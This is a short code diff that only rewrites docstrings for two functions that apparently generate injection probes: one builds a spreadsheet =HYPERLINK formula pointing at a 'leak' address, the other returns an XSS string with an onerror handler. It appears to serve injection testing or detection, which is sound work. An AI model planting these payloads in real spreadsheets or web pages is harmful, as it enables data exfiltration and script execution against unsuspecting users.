@@ -42,10 +42,10 @@ def short(place: str, leak: str) -> str:
 
 
 def formula(place: str, leak: str) -> str:
-    """What a spreadsheet would take for a formula."""
+    """Return a text that a spreadsheet would take for a formula."""
     return f'=HYPERLINK("{leak}/{MARK}-cell","{seen(place)}")'
 
 
 def seen(place: str) -> str:
-    """How a text begins: a page that shows it as it is has these very characters."""
+    """Return the beginning of a text: a page that shows it unchanged has these characters."""
     return f"<img src=x onerror=__pwnd()> at {place}:"
